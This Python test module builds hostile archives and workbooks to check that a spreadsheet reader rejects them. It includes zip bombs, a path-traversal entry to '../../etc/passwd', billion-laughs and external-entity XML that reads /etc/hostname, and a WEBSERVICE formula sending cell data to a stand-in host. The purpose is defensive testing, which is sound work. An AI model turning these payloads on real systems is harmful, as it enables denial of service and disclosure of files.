"""The hostile files: who made each, what it would do to a trusting reader, and what we answer."""

from __future__ import annotations

import random
from collections.abc import Callable
from dataclasses import dataclass

from tests.hostile import packages as p
from tests.hostile.zips import Entry, archive

Build = Callable[[], bytes]
MIB = 1024 * 1024


@dataclass(frozen=True, slots=True)
class Hostile:
    """`answer` is the code of the problem, a code of broken rows, or `read` where the file is only odd."""

    name: str
    how: str
    answer: str
    build: Build


def _noise(size: int) -> bytes:
    return random.Random(7).randbytes(size)


def _with(**parts: bytes) -> bytes:
    return p.packed(p.xlsx_parts(), **{name.replace("__", "/"): content for name, content in parts.items()})


def _replaced(name: str, content: bytes) -> bytes:
    return p.packed({**p.xlsx_parts(), name: content})


def _wide_row(columns: int) -> str:
    cell = '<c t="inlineStr"><is><t>x</t></is></c>'
    return p.sheet(f'<row r="1">{cell * columns}</row><row r="2">{cell * columns}</row>')


def _two_cells(second: str, number: int) -> str:
    return p.sheet(p.GOOD_ROWS + f'<row r="{number}"><c r="{second}"><v>1</v></c></row>')


def _compound(*names: str, chain: bytes = b"") -> bytes:
    """A compound file with a header, one sector of allocation and one of directory."""
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    header[24:34] = b"\x3e\x00\x03\x00\xfe\xff\x09\x00\x06\x00"
    header[44:48] = (1).to_bytes(4, "little")
    header[48:52] = (1).to_bytes(4, "little")
    header[56:60] = (4096).to_bytes(4, "little")
    header[60:64] = header[68:72] = b"\xfe\xff\xff\xff"
    header[76:80] = (0).to_bytes(4, "little")
    header[80:] = b"\xff" * 432
    table = chain or (b"\xfd\xff\xff\xff" + b"\xfe\xff\xff\xff" + b"\xff" * 504)
    directory = bytearray()
    for number, name in enumerate(("Root Entry", *names)):
        text = name.encode("utf-16-le")
        entry = bytearray(128)
        entry[: len(text)] = text
        entry[64:66] = (len(text) + 2).to_bytes(2, "little")
        entry[66] = 5 if number == 0 else 2
        entry[67] = 1
        entry[68:80] = b"\xff" * 12
        if number == 0 and names:
            entry[76:80] = (1).to_bytes(4, "little")
        entry[116:120] = (1).to_bytes(4, "little")
        entry[120:124] = (100_000_000).to_bytes(4, "little")
        directory += entry
    return bytes(header) + table.ljust(512, b"\xff")[:512] + bytes(directory).ljust(512, b"\x00")


def _laughs(levels: int, root: str = "lolz") -> str:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, levels))
    return f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY l0 "lol">{entities}]><{root}>&l{levels - 1};</{root}>'


ZIPS = (
    Hostile("bomb: one entry that unpacks a thousand times", "members", "unsafe_archive",
            lambda: archive(Entry("a.xml", b" " * 20 * MIB))),
    Hostile("bomb: three hundred entries just below every single limit", "members", "unsafe_archive",
            lambda: archive(*_copies(300, Entry("0.xml", b" " * 4 * MIB)))),
    Hostile("bomb: archive in archive by name", "members", "unsafe_archive",
            lambda: archive(Entry("inner.zip", archive(Entry("a.xml", b" " * MIB))))),
    Hostile("bomb: archive in archive without a name", "members", "unsafe_archive",
            lambda: archive(Entry("fatura.xml", archive(Entry("a.xml", b" " * MIB))))),
    Hostile("bomb: entries that overlap", "members", "unsafe_archive",
            lambda: archive(*_copies(200, Entry("0.xml", b" " * MIB)), overlapping=True)),
    Hostile("sizes: claims to be small", "members", "unsafe_archive",
            lambda: archive(Entry("a.xml", b" " * 3 * MIB, claimed_size=100))),
    Hostile("sizes: claims bytes beyond the archive", "members", "damaged_file",
            lambda: archive(Entry("a.xml", b"<a/>", claimed_packed=50 * MIB))),
    Hostile("sizes: claims four gigabytes", "members", "unsafe_archive",
            lambda: archive(Entry("a.xml", b"<a/>", claimed_size=4_000_000_000))),
    Hostile("a member of thirty megabytes", "members", "unsafe_archive",
            lambda: archive(Entry("a.xml", _noise(30 * MIB), method=0))),
    Hostile("thirty thousand entries", "members", "unsafe_archive",
            lambda: archive(*_copies(30_000, Entry("0.xml", b"<a/>")))),
    Hostile("two entries of one name", "members", "unsafe_archive",
            lambda: archive(Entry("a.xml", b"<a/>"), Entry("./a.xml", b"<b/>"))),
    Hostile("locked entries", "members", "password_protected",
            lambda: archive(Entry("a.xml", _noise(99), method=0, flags=1))),
    Hostile("an unusual compression", "members", "unsafe_archive", lambda: archive(Entry("a.xml", b"x", method=14))),
    Hostile("names that lead out of the folder", "members", "read",
            lambda: archive(Entry("../../etc/passwd", b"<a/>"), Entry("/C:\\x\\..\\b.xml", b"<b/>"))),
    Hostile("compressed bytes that are noise", "members", "damaged_file", lambda: archive(_noisy_entry())),
    Hostile("cut off in the middle", "members", "damaged_file",
            lambda: archive(Entry("a.xml", _noise(50_000)))[:30_000]),
    Hostile("a directory and nothing else", "members", "damaged_file", lambda: archive(Entry("a.xml", b"<a/>"))[34:]),
)  # fmt: skip

WORKBOOKS = (
    Hostile("xlsx: a sheet that unpacks a thousand times", "table", "unsafe_archive",
            lambda: _replaced("xl/worksheets/sheet1.xml", p.sheet(" " * 48 * MIB).encode())),
    Hostile("xlsx: huge shared strings", "table", "unsafe_archive",
            lambda: p.xlsx(strings=f'<sst xmlns="{p.MAIN}"><si><t>{"x" * 60 * MIB}</t></si></sst>')),
    Hostile("xlsx: a count of four billion strings", "table", "too_large_to_read",
            lambda: p.xlsx(strings=f'<sst xmlns="{p.MAIN}" count="4000000000" uniqueCount="4000000000"/>')),
    Hostile("xlsx: two cells, one of them the last of all", "table", "too_large_to_read",
            lambda: p.xlsx(_two_cells("XFD1048576", 1048576))),
    Hostile("xlsx: a row number beyond the last", "table", "too_large_to_read",
            lambda: p.xlsx(_two_cells("B4294967290", 4294967290))),
    Hostile("xlsx: the sheet claims all cells and has few", "table", "read",
            lambda: p.xlsx(p.sheet(p.GOOD_ROWS, '<dimension ref="A1:XFD1048576"/>'))),
    Hostile("xlsx: sixteen thousand columns", "table", "too_many_columns", lambda: p.xlsx(_wide_row(16_384))),
    Hostile("xlsx: two thousand parts", "table", "unsafe_archive", lambda: archive(
        *(Entry(name, part) for name, part in p.xlsx_parts().items()), *_copies(2_000, Entry("0.xml", b"<a/>")))),
    Hostile("xlsx: a cell of a million letters", "table", "cell_too_long", lambda: p.xlsx(p.sheet(
        p.GOOD_ROWS + f'<row r="3"><c r="A3" t="inlineStr"><is><t>{"x" * 1_000_000}</t></is></c></row>'))),
    Hostile("xlsx: a cell reference without end", "table", "damaged_file", lambda: p.xlsx(_two_cells("Z" * 99 + "9" * 99, 3))),
    Hostile("xlsx: elements a hundred thousand deep", "table", "empty_file",
            lambda: p.xlsx(p.sheet("<row>" * 100_000 + "</row>" * 100_000))),
    Hostile("xlsx: formulas instead of values", "table", "read", lambda: p.xlsx(p.sheet(
        p.GOOD_ROWS + '<row r="3"><c r="A3"><f>WEBSERVICE("http://x.test/"&amp;B2)</f></c>'
        '<c r="B3" t="e"><v>#REF!</v></c></row>'))),
    Hostile("xlsx: billion laughs in shared strings", "table", "unsafe_xml", lambda: p.xlsx(strings=_laughs(9, "sst"))),
    Hostile("xlsx: an external entity in the book", "table", "unsafe_xml", lambda: _replaced(
        "xl/workbook.xml", b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]><workbook>&e;</workbook>')),
    Hostile("xlsx: macros", "table", "macro_workbook", lambda: _with(**{"xl/vbaProject.bin": _noise(500)})),
    Hostile("xlsx: macros by their type only", "table", "macro_workbook", lambda: _replaced(
        "[Content_Types].xml", p.xlsx_parts()["[Content_Types].xml"].replace(b"sheet.main", b"sheet.macroEnabled.main"))),
    Hostile("xlsx: links to other files", "table", "foreign_content",
            lambda: _with(**{"xl/externalLinks/externalLink1.xml": b"<a/>"})),
    Hostile("xlsx: an embedded object", "table", "foreign_content", lambda: _with(**{"xl/embeddings/oleObject1.bin": b"MZ"})),
    Hostile("xlsx: cut off", "table", "damaged_file", lambda: p.xlsx()[:900]),
    Hostile("xlsx: no sheet where the book says", "table", "damaged_file", lambda: p.packed(
        {name: part for name, part in p.xlsx_parts().items() if "sheet1" not in name})),
    Hostile("the first bytes of a workbook and noise", "table", "damaged_file", lambda: b"PK\x03\x04" + _noise(5_000)),
    Hostile("a Word document", "table", "unknown_format", lambda: archive(Entry("word/document.xml", b"<a/>"))),
    Hostile("xlsb: noise in its parts", "table", "damaged_file", lambda: archive(
        *(Entry(name, _noise(4_000)) for name in ("[Content_Types].xml", "xl/workbook.bin", "xl/_rels/workbook.bin.rels")))),
    Hostile("ods: repeats a cell through the whole sheet", "table", "damaged_file", lambda: p.ods(
        p.ods_row("cari", "tutar") + '<table:table-row table:number-rows-repeated="1048575"><table:table-cell '
        'table:number-columns-repeated="16384" office:value-type="float" office:value="1"/></table:table-row>')),
    Hostile("ods: repeats nothing through the whole sheet", "table", "read", lambda: p.ods(
        p.ods_row("cari", "tutar") + p.ods_row("120", "1") + '<table:table-row table:number-rows-repeated="1048574">'
        '<table:table-cell table:number-columns-repeated="16384"/></table:table-row>')),
    Hostile("ods: locked", "table", "password_protected", lambda: p.ods("", "<manifest:encryption-data/>")),
    Hostile("ods: cut off", "table", "damaged_file", lambda: p.ods(p.ods_row("a", "b"))[:400]),
    Hostile("xls: a new workbook behind a password", "table", "password_protected",
            lambda: _compound("EncryptionInfo", "EncryptedPackage")),
    Hostile("xls: macros", "table", "macro_workbook", lambda: _compound("Workbook", "_VBA_PROJECT_CUR")),
    Hostile("xls: an embedded object", "table", "foreign_content", lambda: _compound("Workbook", "MBD00012345")),
    Hostile("xls: cut off behind its first bytes", "table", "damaged_file", lambda: _compound("Workbook")[:300]),
    Hostile("xls: sectors in a circle", "table", "too_large_to_read",
            lambda: _compound("Workbook", chain=(1).to_bytes(4, "little") * 128)),
    Hostile("xls: noise", "table", "damaged_file", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + _noise(20_000)),
)  # fmt: skip


def _copies(count: int, entry: Entry) -> list[Entry]:
    """The same packed bytes under many names, without packing them again."""
    copies = []
    for number in range(count):
        copy = Entry(f"{number}.xml", b"", entry.method)
        copy.content, copy.packed = entry.content, entry.packed
        copies.append(copy)
    return copies


def _noisy_entry() -> Entry:
    entry = Entry("a.xml", b"<a/>" * 1_000)
    entry.packed = b"\xff" + _noise(len(entry.packed) - 1)
    return entry
